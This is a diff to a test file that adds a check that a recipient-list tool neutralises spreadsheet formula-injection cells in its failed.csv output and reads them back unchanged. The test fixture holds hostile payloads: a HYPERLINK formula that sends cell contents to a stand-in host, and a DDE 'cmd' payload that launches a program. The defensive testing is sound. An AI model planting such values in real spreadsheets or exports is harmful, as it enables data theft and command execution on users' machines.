@@ -235,6 +235,26 @@ describe('recipient lists as they come', () => {
     expect(failed).toContain('bad,en,Board');
   });
 
+  it('guards failed.csv cells a spreadsheet would run as a formula, and reads them back as they were', async () => {
+    // Text in a workbook (a web form's entries, say) that Excel would run once it is in a CSV.
+    const hostile = { first_name: '=HYPERLINK("http://x.example/?"&A1,"Open")', last_name: "'=already quoted", position: '+cmd|\' /C calc\'!A0', organization: '@SUM(1+1)', title: '-Dr' };
+    const file = path.join(t.dir, 'list.xlsx');
+    writeFileSync(file, makeXlsx([{ name: 'People', rows: [FIELDS, cells({ id: 'ok' }), cells({ id: 'bad', ...hostile, email: 'not an address' })] }]));
+    const r = await generate({ csv: file, out: path.join(t.dir, 'out'), jobs: 1 });
+    expect(r.failed).toBe(1);
+    const failed = readFileSync(r.failedCsv!, 'utf8');
+    // No cell of the file begins with a character that starts a formula.
+    const rows = failed.trim().split('\r\n').map((l) => l.match(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, '')));
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(failed).toContain("'=HYPERLINK(");
+    expect(failed).toContain("''=already quoted");
+    // Read again, once the address is mended, the row is what the workbook held.
+    const mended = path.join(t.dir, 'mended.csv');
+    writeFileSync(mended, failed.replace('not an address', 'ada@example.edu'));
+    const back = (await readRecipients(mended)).recipients[0];
+    expect(back.fields).toMatchObject(hostile);
+  });
+
   it('lists every word it accepts in the README', () => {
     const readme = readFileSync(path.join(ROOT, 'README.md'), 'utf8');
     const all = [FIELD_WORDS, GROUP_WORDS, LANGUAGE_WORDS, GENDER_WORDS].flatMap((table) => Object.entries(table).flatMap(([k, words]) => [k, ...words]));
